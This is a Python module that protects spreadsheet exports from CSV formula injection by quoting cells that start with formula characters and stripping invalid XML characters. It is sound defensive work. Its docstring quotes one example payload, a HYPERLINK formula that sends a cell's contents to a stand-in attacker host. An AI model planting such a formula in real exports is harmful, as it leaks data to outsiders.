"""Cells of a spreadsheet that a spreadsheet program will not run.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return,
which some programs skip before looking) is read as a formula by Excel, LibreOffice and
Google Sheets: a company name like ``=HYPERLINK("http://evil.example?"&A1, "Apply")``
copied from a job board would run when the export is opened. OWASP's guidance on CSV
injection: start such a cell with a single quote, which every one of them shows as text.
The text after the quote is kept as it was, so an import takes the quote off again.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, time

#: What starts a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What a cell may hold: text, a day, a time of day, a number, or nothing.
Cell = str | date | time | int | None
#: The characters XML 1.0 cannot hold (openpyxl refuses them); stored text never has them,
#: as free text is checked on the way in, but an old database might.
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(text: str) -> str:
    """``text``, with a leading ``'`` when a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restored(text: str) -> str:
    """``text`` as it was before :func:`neutralise`: the quote taken off a formula's start.

    A quote before anything else is the person's own, and stays."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def neutralised(row: Iterable[Cell]) -> list[Cell]:
    return [neutralise(_NOT_XML.sub("", c)) if isinstance(c, str) else c for c in row]


def as_text(cell: Cell) -> str:
    """A cell for CSV: days as ISO 8601 (``2026-03-02``), times as ``10:00``."""
    if cell is None:
        return ""
    if isinstance(cell, time):
        return f"{cell.hour:02d}:{cell.minute:02d}"
    if isinstance(cell, date):
        return cell.isoformat()
    return str(cell)
